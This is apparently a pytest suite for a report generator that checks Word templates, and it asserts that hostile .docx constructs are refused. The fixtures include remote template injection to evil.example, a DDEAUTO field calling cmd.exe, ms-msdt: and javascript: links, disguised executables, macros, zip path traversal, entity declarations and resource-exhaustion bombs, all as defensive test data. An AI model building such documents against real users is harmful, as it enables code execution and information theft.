"""What a Word template may not bring into what is published: each way in is refused, with its place."""

import io
import random
import zipfile
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from generator.cli.app import app
from generator.documents.template_trial import faults_of
from generator.documents.templating import allowance
from generator.documents.word import word_template
from generator.documents.word_document import package
from generator.model.problem import Unusable
from generator.xlsx.limits import MIB
from tests.documents.little import little
from tests.documents.made_templates import (
    MAIN,
    MICROSOFT,
    PNG,
    REPORT,
    SETTINGS,
    Parts,
    R,
    W,
    field,
    packed,
    parts_of,
    replaced,
    step,
    with_link,
    with_paragraph,
    with_part,
)
from tests.projects import make_project

FIRST, HEADER = "main text, paragraph 1", "word/header1.xml"
EVIL = "http://evil.example/x"
NOT_IN_IT, NO_PAGE = "a picture that is not in the file", "which is a file or a program, and not a web page"
OBJECT, TRACKED = "an object of another program", "it has tracked changes"
VML, SVG = 'xmlns:v="urn:schemas-microsoft-com:vml"', 'xmlns="http://www.w3.org/2000/svg"'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def used(element: str, parts: Parts, part: str = MAIN) -> Parts:
    return with_paragraph(f"<w:r>{element}</w:r>", part, parts)


def outside(kind: str, target: str = EVIL, source: str = MAIN) -> Parts:
    return with_link(kind, target, source, external=True)


def template(target: str) -> Parts:
    return outside("attachedTemplate", target, SETTINGS)


def part(name: str, data: bytes | str, kind: str = "") -> Parts:
    return with_part(name, data, kind)


FETCHED = {
    "a remote template": (template(EVIL), "settings", "another template"),
    "a template on another computer": (template(r"file:///\\fs01\x\x.dotm"), "settings", "another template"),
    "a template on another computer, shortly": (template(r"\\fs01\x.dotm"), "settings", "another template"),
    "a template on a named computer": (template("file://fs01/x.dotm"), "settings", "another template"),
    "a remote picture": (used('<a:blip xmlns:a="a" r:link="rIdX"/>', outside("image")), FIRST, NOT_IN_IT),
    "a remote picture that nothing shows": (outside("image"), "main text", NOT_IN_IT),
    "a picture on another computer": (outside("image", r"\\fs01\x.png"), "main text", NOT_IN_IT),
    "a remote picture in a header": (
        used('<v:imagedata xmlns:v="v" r:href="rIdX"/>', outside("image", source=HEADER), HEADER),
        "header 1, paragraph 1",
        EVIL,
    ),
    "a remote picture in a footer": (outside("image", source="word/footer1.xml"), "footer 1", EVIL),
    "a remote picture as a bullet": (outside("image", source="word/numbering.xml"), "numbering", EVIL),
    "a remote picture in the styles": (outside("image", source="word/styles.xml"), "styles", EVIL),
    "a remote picture of an old drawing": (
        with_paragraph(f'<w:r><w:pict><v:imagedata {VML} src="{EVIL}"/></w:pict></w:r>'),
        FIRST,
        "it fetches a picture",
    ),
    "a remote film": (outside("video"), "main text", EVIL),
    "a remote object": (outside("oleObject"), "main text", OBJECT),
    "a remote document as a chapter": (
        used('<w:subDoc r:id="rIdX"/>', outside("subDocument")),
        FIRST,
        "another document",
    ),
    "a remote frame": (outside("frame"), "main text", EVIL),
    "a remote file put in whole": (outside("aFChunk"), "main text", "another file that is put in whole"),
    "a list of addresses": (outside("mailMergeSource", r"file:///C:\x.xlsx", SETTINGS), "settings", "addresses"),
    "a stylesheet to save with": (outside("transform", source=SETTINGS), "settings", EVIL),
    "a kind that nobody knows": (outside("urn:x/anything"), "main text", EVIL),
    "something of the whole package": (outside("urn:x/anything", source=""), "", EVIL),
    "a link to a program": (
        used('<w:hyperlink r:id="rIdX"/>', outside("hyperlink", "file:///C:/Windows/calc.exe")),
        FIRST,
        NO_PAGE,
    ),
    "a link to another computer": (outside("hyperlink", r"\\fs01\x.docx"), "main text", NO_PAGE),
    "a link that runs something": (outside("hyperlink", "ms-msdt:/id PCWDiagnostic"), "main text", NO_PAGE),
    "a link with a script": (outside("hyperlink", "javascript:alert(1)"), "main text", NO_PAGE),
    "a link to a program beside it": (outside("hyperlink", "evil.exe"), "main text", NO_PAGE),
    "a link of an old drawing": (
        with_paragraph(f'<w:r><w:pict><v:shape {VML} href="file:///c:/x.exe"/></w:pict></w:r>'),
        FIRST,
        NO_PAGE,
    ),
}

FIELDS = {
    "DDEAUTO": field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '),
    "DDE": field(r" DDE excel x "),
    "in small letters": field(r"ddeauto c:\\x"),
    "in pieces": field("D", "DEA", r"UTO c:\\x"),
    "in one element": r'<w:fldSimple w:instr=" DDEAUTO c:\\x "><w:r><w:t>1</w:t></w:r></w:fldSimple>',
    "in one element within another": '<w:fldSimple w:instr="PAGE"><w:fldSimple w:instr="DDE x"/></w:fldSimple>',
    "never ended": f"{step('begin')}{code('DDEAUTO x')}",
    "never begun": code("DDEAUTO x"),
    "its word is given by a field": f"{step('begin')}{field('QUOTE 68 68 69')}{code(' x')}{step('end')}",
    "half of its word is given by a field": f"{step('begin')}{code('D')}{field('QUOTE DE')}{code(' x')}{step('end')}",
    "within another": f"{step('begin')}{code('IF 1 = 1 ')}{field('DDEAUTO x')}{step('end')}",
    "its code as text": f"{step('begin')}{run('DDEAUTO x')}{step('end')}",
    "over two paragraphs": f"{step('begin')}{code('DDE')}</w:p><w:p>{code('AUTO x')}{step('end')}",
    **{
        each: field(f' {each} "http://evil.example/x" ')
        for each in (
            *("INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "IMPORT", "LINK", "RD", "EMBED", "AUTOTEXT", "GLOSSARY"),
            *("AUTOTEXTLIST", "MACROBUTTON", "GOTOBUTTON", "PRINT", "DATABASE", "ADDIN", "CONTROL", "HTMLCONTROL"),
            *("FILLIN", "ASK", "MERGEFIELD", "DOCVARIABLE", "INFO", "TEMPLATE", "USERNAME", "LASTSAVEDBY", "AUTHOR"),
            "NOBODYKNOWS",
        )
    },
    "a person's property": field(r" DOCPROPERTY Manager \* MERGEFORMAT "),
    "a person's property in quotation marks": field(' DOCPROPERTY "LastSavedBy" '),
    "the folders of a computer": field(r" FILENAME \p "),
    "a link to a file": field(r' HYPERLINK "file:///c:\\x.exe" '),
    "a link to another computer": field(r" HYPERLINK \\\\fs01\\x "),
    "a link after its tip": field(r' HYPERLINK \o "tip" "file:///c:/x.exe" '),
    "a link that a field gives": f"{step('begin')}{code('HYPERLINK ')}{field('QUOTE x')}{step('end')}",
}
SOUND_FIELDS = {
    "a page number": field(" PAGE "),
    "a page number in one element": r'<w:fldSimple w:instr=" PAGE \* MERGEFORMAT "><w:r/></w:fldSimple>',
    "pages, in pieces": field(" NUM", "PAGES ", r" \* MERGEFORMAT "),
    "a sum": field("=1+1"),
    "a list of contents": field(r' TOC \o "1-3" \h \z \u '),
    "a link to a page": field(' HYPERLINK "https://www.example.org/a?b=c#d" '),
    "a link within": field(r' HYPERLINK \l "_Toc1" '),
    "a link to an e-mail": field(r' HYPERLINK "mailto:a@example.org" \o "a tip: with one" '),
    "a link to a file beside it": field(' HYPERLINK "exceptions.pdf" '),
    "a page number within a choice": f"{step('begin')}{code('IF ')}{field('PAGE')}{code('=1 a b')}{step('end')}",
    "the council as author": field(" AUTHOR ", shown="{{ page.council }}"),
    "an empty one": field(" "),
}

CONTROL = (
    "<w:sdt><w:sdtPr><w:dataBinding w:xpath='/ns0:Properties[1]/ns0:Manager[1]'/></w:sdtPr>"
    f"<w:sdtContent>{run('Jo Sample')}</w:sdtContent></w:sdt>"
)
MACRO = '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:fldChar></w:r>'
HELD = {
    "macros": (part("word/vbaProject.bin", OLE, f"{MICROSOFT}/vbaProject"), "main text", "it holds macros"),
    "macros that nothing leads to": (part("word/vbaProject.bin", OLE), "", "“word/vbaProject.bin”"),
    "an ActiveX control": (
        used('<w:control r:id="rIdX"/>', part("word/activeX/activeX1.xml", "<x/>", "control")),
        FIRST,
        OBJECT,
    ),
    "a control's data": (part("word/activeX/activeX1.bin", b"\1\2\3"), "", "“word/activeX/activeX1.bin”"),
    "an embedded object": (
        used('<o:OLEObject xmlns:o="o" r:id="rIdX"/>', part("word/embeddings/o.bin", OLE, "oleObject")),
        FIRST,
        OBJECT,
    ),
    "an embedded workbook": (part("word/embeddings/x.xlsx", b"PK\3\4", "package"), "main text", OBJECT),
    "a file put in whole, with a tag": (
        replaced(
            MAIN,
            "<w:body>",
            f'<w:body><w:altChunk {R} r:id="rIdX"/>',
            part("word/afchunk.html", "<p>{{ page.heading }}</p>", "aFChunk"),
        ),
        "main text",
        "another file that is put in whole",
    ),
    "buttons of its own": (
        with_link(f"{MICROSOFT}/ui/extensibility", "/customUI/x.xml", "", parts=part("customUI/x.xml", "<x/>")),
        "",
        "buttons of its own",
    ),
    "a program": (part("evil.exe", b"MZ\x90\0"), "", "“evil.exe”"),
    "a program among the text": (part("word/evil.bin", b"MZ\x90\0"), "", "“word/evil.bin”"),
    "a program as a picture": (part("word/media/a.png", b"MZ\x90\0", "image"), "", "“word/media/a.png”"),
    "a program as a header": (part("word/header7.xml", b"MZ\x90\0", "header"), "header 7", "damaged"),
    "a program as a font": (part("word/fonts/font1.exe", b"MZ\x90\0", "font"), "", "“word/fonts/font1.exe”"),
    "a program as what SharePoint leaves": (part("customXml/a.exe", b"MZ", "customXml"), "", "“customXml/a.exe”"),
    "a script": (part("run.vbs", b"MsgBox 1"), "", "“run.vbs”"),
    "a web page": (part("evil.html", b"<html/>"), "", "“evil.html”"),
    "a drawing with a script": (part("word/a.svg", f"<svg {SVG}><script/></svg>", "image"), "", "a.svg"),
    "a drawing that fetches": (part("word/a.svg", f'<svg {SVG}><image href="{EVIL}"/></svg>', "image"), "", "a.svg"),
    "a form field's macro": (with_paragraph(MACRO), FIRST, "a form field runs a macro"),
    "comments under another name": (
        part("word/notes.xml", f"<w:comments {W}><w:comment w:author='Jo'/></w:comments>", "comments"),
        "",
        "it has comments",
    ),
    "a tracked change in the styles": (
        replaced("word/styles.xml", "</w:styles>", "<w:style><w:rPrChange w:author='Jo'/></w:style></w:styles>"),
        "styles",
        TRACKED,
    ),
    "a tracked change of another kind": (with_paragraph("<w:moveToRangeStart w:author='Jo'/>"), "main text", TRACKED),
    "a tag in a setting": (replaced(SETTINGS, '"100"', '"{{ page.heading }}"'), "settings", "there is a tag in it"),
    "a tag in a link": (outside("hyperlink", "https://example.org/{{ page.period }}"), "main text", "a tag in it"),
    "a person's name in a control": (with_paragraph(CONTROL), FIRST, "prints the name of a person"),
}

OPEN_TAG = "{{ page"


def told_of(data: bytes) -> list[str]:
    """What a build is told of a template: place, fault and remedy."""
    try:
        word_template(data, "report.docx")
    except Unusable as refused:
        return [f"{each.place.cell or ''}: {each.message} {each.remedy}" for each in refused.problems]
    return []


def assert_told(data: bytes, place: str, words: str) -> None:
    told = told_of(data)
    assert any(each.startswith(f"{place}: The template is wrong: ") and words in each for each in told), told


@pytest.mark.parametrize(("parts", "place", "words"), FETCHED.values(), ids=FETCHED)
def test_what_is_fetched_when_the_report_is_opened_is_refused(parts: Parts, place: str, words: str) -> None:
    assert_told(packed(parts), place, words)


@pytest.mark.parametrize("written", FIELDS.values(), ids=FIELDS)
def test_a_field_that_does_more_than_print_is_refused(written: str) -> None:
    told = told_of(packed(with_paragraph(written)))
    assert any(each.startswith("main text, paragraph ") and "the field “" in each for each in told), told


@pytest.mark.parametrize(
    ("name", "place"), [(HEADER, "header 1, paragraph 1"), ("word/footer1.xml", "footer 1, parag")]
)
def test_fields_are_looked_for_in_headers_and_footers_too(name: str, place: str) -> None:
    told = told_of(packed(with_paragraph(FIELDS["in pieces"], name)))
    assert any(each.startswith(place) and "the field “DDEAUTO" in each for each in told), told


@pytest.mark.parametrize("written", SOUND_FIELDS.values(), ids=SOUND_FIELDS)
def test_a_field_that_prints_is_taken(written: str) -> None:
    assert told_of(packed(with_paragraph(written))) == []


@pytest.mark.parametrize(("parts", "place", "words"), HELD.values(), ids=HELD)
def test_what_no_report_needs_is_refused_where_it_could_do_harm(parts: Parts, place: str, words: str) -> None:
    assert_told(packed(parts), place, words)


@pytest.mark.parametrize("name", [name for name in parts_of() if name.endswith((".xml", ".rels"))])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_is_refused_in_every_part(name: str, encoding: str) -> None:
    declared, _, rest = parts_of()[name].decode().partition("?>")
    text = f"{declared}?><!DOCTYPE x [<!ENTITY e 'ha'>]>{rest}".replace("UTF-8", encoding)
    told = told_of(packed({**parts_of(), name: text.encode(encoding)}))
    assert any("declares a document type" in each for each in told), told


def archive_with(name: str, data: bytes = b"x", method: int = zipfile.ZIP_STORED) -> bytes:
    made = io.BytesIO(REPORT)
    with zipfile.ZipFile(made, "a") as archive:
        archive.NameToInfo.clear()  # else the library warns of what is meant
        archive.writestr(name, data, method)
    return made.getvalue()


MISLEADING = {
    "outside the package": (archive_with("../../../evil.txt"), "points outside the file"),
    "outside, further in": (archive_with("word/../../evil.txt"), "points outside the file"),
    "from the root": (archive_with("/etc/evil.txt"), "points outside the file"),
    "from a drive": (archive_with("C:/evil.txt"), "points outside the file"),
    "the same name twice": (archive_with(MAIN, parts_of()[MAIN]), "two parts are called"),
    "the same name but for its letters": (archive_with("Word/Document.xml", parts_of()[MAIN]), "two parts are called"),
    "packed in an unusual way": (archive_with("word/a.xml", method=zipfile.ZIP_BZIP2), "packed in an unusual way"),
    "cut short": (REPORT[:-30], "damaged"),
    "cut in the middle": (REPORT[: len(REPORT) // 2], "damaged"),
    "a password": (OLE + "EncryptedPackage".encode("utf-16-le"), "by a password"),
    "an old Word document": (OLE + bytes(999), "not a Word document"),
    "nothing": (b"", "not a Word document"),
    "a main text that is cut": (packed({**parts_of(), MAIN: parts_of()[MAIN][:999]}), "not well-formed XML"),
    "a main text that is no document": (
        packed(replaced("[Content_Types].xml", "document.main+xml", "document.macroEnabled.main+xml")),
        "not a Word document (.docx)",
    ),
}


@pytest.mark.parametrize(("data", "words"), MISLEADING.values(), ids=MISLEADING)
def test_a_file_that_misleads_is_refused(data: bytes, words: str) -> None:
    told = told_of(data)
    assert any(words in each for each in told), told


def filled_up(what: str, before: str = "<w:body>") -> bytes:
    return packed(replaced(MAIN, before, before + what))


def many(text: str, count: int) -> str:
    return "".join(text.format(each) for each in range(count))


def more_styles(styles: str, parts: Parts | None = None) -> bytes:
    return packed(replaced("word/styles.xml", "</w:styles>", f"{styles}</w:styles>", parts))


TOO_LARGE = {
    "eight million paragraphs": lambda: filled_up("<w:p/>" * 8_000_000),
    "a million paragraphs": lambda: filled_up("<w:p/>" * 1_000_000),
    "half a million runs": lambda: filled_up(f"<w:p>{'<w:r/>' * 500_000}</w:p>"),
    "half a million attributes": lambda: filled_up(many('<w:p w:a{0}=""/>', 500_000)),
    "a million styles": lambda: more_styles("<w:style/>" * 999_999),
    "a million paragraphs in a header": lambda: packed(with_paragraph("</w:p><w:p>" * 999_999, HEADER)),
    "a million paragraphs in a part of another name": lambda: packed(
        part("word/a.dat", f"<w:hdr {W}>{'<w:p/>' * 999_999}</w:hdr>", "header")
    ),
    "a hundred megabytes of nothing": lambda: packed(part("word/a.png", PNG + bytes(99_999_999), "image")),
    "a text without end": lambda: filled_up(f"<w:p>{run('x' * 9_999_999)}</w:p>"),
    "a thousand parts": lambda: packed({**parts_of(), **{f"word/{each}.png": PNG for each in range(1_000)}}),
    "elements in elements": lambda: filled_up("<w:sdt>" * 99_999 + "</w:sdt>" * 99_999),
    "many megabytes": lambda: packed(
        {**parts_of(), **{f"word/{each}.png": PNG + random.randbytes(9_000_000) for each in range(3)}}  # noqa: S311
    ),
}


@pytest.mark.parametrize("made", TOO_LARGE.values(), ids=TOO_LARGE)
def test_a_template_that_is_too_large_is_refused_at_once(made: Callable[[], bytes]) -> None:
    data = made()
    with little(seconds=3, megabytes=200), pytest.raises(Unusable) as refused:
        word_template(data, "report.docx")
    (told,) = refused.value.problems
    assert "too large" in told.message or "cannot be understood" in told.message or "damaged" in told.message
    assert "MemoryError" not in told.message


ODD = {
    "many names": lambda: filled_up(many("<w:a{0}/>", 40_000)),
    "runs beside a tag": lambda: filled_up(f"<w:p>{run('x') * 20_000}{run('{{ page.council }}')}</w:p>"),
    "bookmarks of Word's own": lambda: filled_up(many('<w:bookmarkStart w:id="{0}" w:name="_GoBack"/>', 30_000)),
    "bookmarks in a loop": lambda: filled_up(
        f"<w:p>{run('{%p for each in page.missing %}')}</w:p><w:p>"
        + many('<w:bookmarkStart w:id="{0}" w:name="n{0}"/>', 30_000)
        + f"</w:p><w:p>{run('{%p endfor %}')}</w:p>"
    ),
    "tags in many rows": lambda: filled_up(
        f"<w:tbl>{f'<w:tr><w:tc><w:p>{run(OPEN_TAG)}</w:p></w:tc></w:tr>' * 4_000}</w:tbl>"
    ),
    "tags that are closed, in many rows": lambda: filled_up(
        f"<w:tbl>{f'<w:tr><w:tc><w:p>{run(OPEN_TAG + str(chr(125) * 2))}</w:p></w:tc></w:tr>' * 4_000}</w:tbl>"
    ),
    "opening brackets": lambda: filled_up(f"<w:p>{run('{' * 200_000)}</w:p>" * 9),
    "quotation marks in tags": lambda: filled_up(f"<w:p>{run('{{ ' + '“' * 1_900)}</w:p>" * 2_000),
    "quotation marks in tags that are closed": lambda: filled_up(
        f"<w:p>{run('{{ ' + '“' * 1_900 + '}}')}</w:p>" * 2_000
    ),
    "styles based on one another": lambda: more_styles(
        many('<w:style w:styleId="s{0}"><w:basedOn w:val="s{0}0"/></w:style>', 8_000),
        replaced(MAIN, "<w:body>", "<w:body>" + '<w:p><w:pPr><w:pStyle w:val="s1"/></w:pPr></w:p>' * 8_000),
    ),
    "fields in fields": lambda: filled_up(f"<w:p>{step('begin') * 8_000}</w:p>"),
    "links by the ten thousand": lambda: packed(
        replaced(
            "word/_rels/document.xml.rels",
            "</Relationships>",
            many('<Relationship Id="x{0}" Type="x/image" Target="http://x" TargetMode="External"/>', 30_000)
            + "</Relationships>",
        )
    ),
}


@pytest.mark.parametrize("made", ODD.values(), ids=ODD)
def test_an_odd_template_takes_neither_long_nor_much(made: Callable[[], bytes]) -> None:
    data = made()
    with little(seconds=20, megabytes=400):
        faults_of(data, "report.docx")


@pytest.mark.parametrize("command", [["check-template"], ["build", "--draft"]])
def test_both_commands_tell_of_it_and_nothing_is_published(command: list[str], tmp_path: Path) -> None:
    make_project(tmp_path)
    (tmp_path / "templates").mkdir(exist_ok=True)
    (tmp_path / "templates" / "report.docx").write_bytes(packed(FETCHED["a remote template"][0]))
    result = CliRunner().invoke(app, [*command, "--project", str(tmp_path)])
    assert result.exit_code == 1
    assert "report.docx" in result.output
    assert "it fetches another template from “http://evil.example/x”" in " ".join(result.output.split())
    assert not list(tmp_path.glob("output/*/*"))


def test_the_documents_give_the_limits_as_they_are() -> None:
    docs = Path(__file__).parents[3] / "docs"
    security = " ".join((docs / "security.md").read_text(encoding="utf-8").split())
    assert (
        f"may have {package.LARGEST_FILE // MIB} MiB and {package.MOST_PARTS} parts; a part "
        f"{package.LARGEST_PART // MIB} MiB and all parts {package.LARGEST_WHOLE // MIB} MiB when unpacked; and all of "
        f"them {package.MOST_MARKUP:,} tags and attributes"
    ) in security
    assert (
        f"{allowance.PIECES:,} pieces, {allowance.BYTES:,} bytes and {allowance.SECONDS} seconds of the processor"
    ) in security
    assert f"{package.LARGEST_FILE // MIB} MiB, {package.MOST_PARTS} parts, {package.MOST_MARKUP:,} elements" in (
        docs / "restyling.md"
    ).read_text(encoding="utf-8")


def tagged(*paragraphs: str) -> bytes:
    return filled_up("".join(f"<w:p>{run(each)}</w:p>" for each in paragraphs))


ROUNDS = "{%p for a in range(99999) %}"
TOO_MUCH = {
    "loops in loops": (ROUNDS, ROUNDS, "x", "{%p endfor %}", "{%p endfor %}"),
    "loops in a paragraph": ("{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",),
    "a text that doubles": (f"{{% set a = 'x' %}}{'{% set a = a ~ a %}' * 60}{{{{ a }}}}",),
    "a list of itself twice": (f"{{% set a = [1] %}}{'{% set a = [a, a] %}' * 60}x",),
    "a filter that doubles": ("{{ 'x'" + "|replace('x', 'xx')" * 60 + " }}",),
    "lines without end": (r"{% set a = range(9999)|join('\n') %}{% for b in range(9999) %}{{ a }}{% endfor %}",),
    "much of the template's own in a loop": (ROUNDS, "x" * 9_999, "{%p endfor %}"),
    "charts without end": ("{% for a in range(99999) %}{% chart page.charts|first, 13, 6 %}{% endfor %}",),
    "macros that double": (
        *("{%p macro m0() %}", "x", "{%p endmacro %}"),
        *(
            line
            for each in range(1, 40)
            for line in (f"{{%p macro m{each}() %}}", *[f"{{{{p m{each - 1}() }}}}"] * 2, "{%p endmacro %}")
        ),
        "{{p m39() }}",
    ),
    "brackets in brackets": (f"{{{{ {'(' * 500}1{')' * 500} }}}}",),
}


@pytest.mark.parametrize("paragraphs", TOO_MUCH.values(), ids=TOO_MUCH)
def test_tags_that_do_too_much_are_told_of_in_time(paragraphs: tuple[str, ...]) -> None:
    data = tagged(*paragraphs)
    with little(seconds=10, megabytes=300):
        (told,) = faults_of(data, "report.docx")
    assert (told.place.cell or "").startswith("main text, paragraph ")
    assert len(told.message) < 600


@settings(max_examples=30, deadline=None)
@given(st.sets(st.integers(1, 8)), st.sampled_from([" ", "\t", "\n", "  "]))
def test_a_code_is_read_however_it_is_cut(cuts: set[int], white: str) -> None:
    written = f"{white}DDEAUTO x"
    pieces = [written[start:end] for start, end in pairwise([0, *sorted(cuts), len(written)])]
    (told,) = told_of(packed(with_paragraph(field(*pieces))))
    assert "the field “DDEAUTO x”" in told


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(REPORT) - 1), st.integers(0, 255)), min_size=1, max_size=12))
def test_a_file_broken_at_random_is_told_of_or_taken(changes: list[tuple[int, int]]) -> None:
    broken = bytearray(REPORT)
    for at, byte in changes:
        broken[at] = byte
    assert all(each.remedy for each in faults_of(bytes(broken), "report.docx"))


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(parts_of())), st.integers(0, 999_999), st.text("<>/\"'&{}%w:p 1", max_size=6))
def test_a_part_changed_at_random_is_told_of_or_taken(name: str, at: int, text: str) -> None:
    data = parts_of()[name]
    place = at % len(data)
    changed = data[:place] + text.encode() + data[place + len(text) :]
    assert all(each.remedy for each in faults_of(packed({**parts_of(), name: changed}), "report.docx"))
